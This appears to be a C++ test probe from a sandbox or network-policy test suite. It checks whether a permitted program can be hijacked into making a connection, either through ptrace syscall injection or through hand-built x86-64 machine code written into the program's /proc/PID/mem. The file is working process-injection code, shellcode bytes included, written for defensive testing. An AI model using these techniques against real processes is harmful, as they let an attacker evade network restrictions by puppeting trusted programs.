// SPDX-License-Identifier: Apache-2.0
// ptrace traceme|attach|mem ALLOWED ADDRESS: makes a process that runs ALLOWED (same user) connect for us.
//   traceme   traced from its first instruction
//   attach    attached to while it runs
//   mem       code written over its own through /proc/PID/mem, without tracing (x86-64)
#include "attack.h"
#include "inject.h"

#include <fcntl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

constexpr auto kUsageText = "ptrace traceme|attach|mem ALLOWED ADDRESS";
constexpr unsigned int kAlarmSeconds = 20; ///< a victim that never answers ends with us

[[noreturn]] void fail(const char* step, int error, const attack::Stopwatch& watch)
{
    if (error == EPERM || error == EACCES) {
        attack::refused(step, error, watch);
    }
    attack::cannot_try(step, error);
}

struct Victim {
    pid_t pid = -1;
    int output = -1; ///< its standard output
};

/// Starts ALLOWED as an innocent long-running process.
Victim start_victim(const char* allowed, bool is_traced)
{
    int ends[2] = {-1, -1};
    if (pipe2(ends, O_CLOEXEC) != 0) {
        attack::cannot_try("pipe", errno);
    }
    const pid_t child = fork();
    if (child == 0) {
        (void)prctl(PR_SET_PDEATHSIG, SIGKILL);
        (void)dup2(ends[1], STDOUT_FILENO);
        if (is_traced && ptrace(PTRACE_TRACEME, 0, 0, 0) != 0) {
            _exit(attack::kRefused);
        }
        char idle[] = "--idle";
        char length[] = "long";
        std::array<char*, 4> arguments{const_cast<char*>(allowed), idle, length, nullptr}; // execv's signature
        (void)execv(allowed, arguments.data());
        _exit(attack::kRefused);
    }
    (void)close(ends[1]);
    if (child < 0) {
        attack::cannot_try("fork", errno);
    }
    return Victim{child, ends[0]};
}

/// Returns when the victim runs its own code.
void await_start(const Victim& victim)
{
    std::array<char, 64> line{};
    if (read(victim.output, line.data(), line.size()) <= 0) {
        attack::cannot_try("start the allowed program", ECHILD);
    }
}

/// Waits for the stop of a traced victim.
void await_stop(pid_t pid, const char* step, const attack::Stopwatch& watch)
{
    int status = 0;
    if (waitpid(pid, &status, 0) != pid) {
        fail(step, errno, watch);
    }
    if (!WIFSTOPPED(status)) {
        attack::refused(step, EPERM, watch); // it was not allowed to be traced, or died of it
    }
}

std::span<const unsigned char> bytes_of(std::string_view text)
{
    return {reinterpret_cast<const unsigned char*>(text.data()), text.size()};
}

/// Socket, connect, write, read: all in the victim.
[[noreturn]] void connect_in(pid_t pid, const attack::Target& target, const attack::Stopwatch& watch)
{
    const auto puppet = attack::Puppet::take(pid);
    if (!puppet) {
        attack::cannot_try("inject on this architecture", ENOSYS);
    }
    const auto family = static_cast<std::uint64_t>(target.family());
    const std::int64_t fd = puppet->call(SYS_socket, {family, SOCK_STREAM, 0, 0});
    if (fd < 0) {
        fail("injected socket", static_cast<int>(-fd), watch);
    }
    std::vector<unsigned char> address(target.size);
    std::memcpy(address.data(), &target.address, target.size);
    puppet->write(puppet->scratch(), address);
    const auto socket_fd = static_cast<std::uint64_t>(fd);
    const std::int64_t connected = puppet->call(SYS_connect, {socket_fd, puppet->scratch(), target.size, 0});
    if (connected < 0) {
        attack::refused("injected connect", static_cast<int>(-connected), watch);
    }
    puppet->write(puppet->scratch(), bytes_of(attack::request()));
    (void)puppet->call(SYS_write, {socket_fd, puppet->scratch(), attack::request().size(), 0});
    std::array<unsigned char, 256> answer{};
    const std::int64_t size = puppet->call(SYS_read, {socket_fd, puppet->scratch(), answer.size(), 0});
    if (size <= 0) {
        attack::refused("injected read", size == 0 ? ECONNRESET : static_cast<int>(-size), watch);
    }
    puppet->read(puppet->scratch(), answer);
    const auto* text = reinterpret_cast<const char*>(answer.data());
    attack::reached("injected calls", std::string_view(text, static_cast<std::size_t>(size)));
}

#if defined(__x86_64__)
template <typename T> void append(std::vector<unsigned char>& code, const T& value)
{
    const std::size_t at = code.size();
    code.resize(at + sizeof(T));
    std::memcpy(code.data() + at, &value, sizeof(T));
}

void set_register(std::vector<unsigned char>& code, unsigned char number, std::uint64_t value)
{
    code.insert(code.end(), {0x48, static_cast<unsigned char>(0xb8 + number)}); // movabs
    append(code, value);
}

/// socket; connect; exit_group(0 or -errno): machine code followed by the address it names.
std::vector<unsigned char> connect_code(const attack::Target& target, std::uint64_t at)
{
    constexpr unsigned char rax = 0;
    constexpr unsigned char rdx = 2;
    constexpr unsigned char rsi = 6;
    constexpr unsigned char rdi = 7;
    constexpr std::uint64_t address_offset = 128;
    std::vector<unsigned char> code;
    set_register(code, rax, SYS_socket);
    set_register(code, rdi, static_cast<std::uint64_t>(target.family()));
    set_register(code, rsi, SOCK_STREAM);
    set_register(code, rdx, 0);
    code.insert(code.end(), {0x0f, 0x05, 0x48, 0x89, 0xc7}); // syscall; mov rdi, rax
    set_register(code, rax, SYS_connect);
    set_register(code, rsi, at + address_offset);
    set_register(code, rdx, target.size);
    code.insert(code.end(), {0x0f, 0x05, 0x48, 0xf7, 0xd8, 0x48, 0x89, 0xc7}); // syscall; neg rax; mov rdi, rax
    set_register(code, rax, SYS_exit_group);
    code.insert(code.end(), {0x0f, 0x05});
    code.resize(address_offset);
    const std::size_t end = code.size();
    code.resize(end + target.size);
    std::memcpy(code.data() + end, &target.address, target.size);
    return code;
}

/// The program counter as /proc shows it for a process within a system call.
std::uint64_t program_counter(pid_t pid, const attack::Stopwatch& watch)
{
    for (int attempt = 0; attempt < 100; ++attempt) {
        std::array<char, 256> text{};
        const int fd = open(("/proc/" + std::to_string(pid) + "/syscall").c_str(), O_RDONLY | O_CLOEXEC);
        const ssize_t size = fd < 0 ? -1 : read(fd, text.data(), text.size() - 1);
        const int error = errno;
        (void)close(fd);
        if (size < 0 && error != ENOENT) {
            fail("/proc/PID/syscall", error, watch);
        }
        if (size < 0) {
            attack::cannot_try("/proc/PID/syscall", error);
        }
        const char* last = std::strrchr(text.data(), ' ');
        if (last != nullptr && std::strncmp(text.data(), "running", 7) != 0) {
            return std::strtoull(last + 1, nullptr, 16);
        }
        (void)usleep(1000);
    }
    attack::cannot_try("find the victim within a system call", EBUSY);
}

[[noreturn]] void through_memory(const Victim& victim, const attack::Target& target, const attack::Stopwatch& watch)
{
    const std::uint64_t at = program_counter(victim.pid, watch);
    const std::string path = "/proc/" + std::to_string(victim.pid) + "/mem";
    const int memory = open(path.c_str(), O_RDWR | O_CLOEXEC);
    if (memory < 0) {
        fail("/proc/PID/mem", errno, watch);
    }
    const auto code = connect_code(target, at);
    if (pwrite(memory, code.data(), code.size(), static_cast<off_t>(at)) != static_cast<ssize_t>(code.size())) {
        fail("write to /proc/PID/mem", errno, watch);
    }
    int status = 0;
    if (waitpid(victim.pid, &status, 0) != victim.pid || !WIFEXITED(status)) {
        attack::cannot_try("the victim died of it", ECHILD);
    }
    if (WEXITSTATUS(status) != 0) {
        attack::refused("connect by written code", WEXITSTATUS(status), watch);
    }
    attack::reached("written code", "connected");
}
#else
[[noreturn]] void through_memory(const Victim&, const attack::Target&, const attack::Stopwatch&)
{
    attack::cannot_try("written code on this architecture", ENOSYS);
}
#endif

} // namespace

int main(int argc, char** argv)
{
    if (argc != 4) {
        attack::usage(kUsageText);
    }
    (void)alarm(kAlarmSeconds);
    const std::string_view way = argv[1];
    const attack::Target target = attack::require_target(argv[3]);
    const attack::Stopwatch watch;
    const Victim victim = start_victim(argv[2], way == "traceme");
    if (way == "traceme") {
        await_stop(victim.pid, "trace the allowed program from its start", watch);
        connect_in(victim.pid, target, watch);
    }
    await_start(victim);
    if (way == "mem") {
        through_memory(victim, target, watch);
    }
    if (ptrace(PTRACE_ATTACH, victim.pid, 0, 0) != 0) {
        fail("PTRACE_ATTACH", errno, watch);
    }
    await_stop(victim.pid, "PTRACE_ATTACH", watch);
    connect_in(victim.pid, target, watch);
}
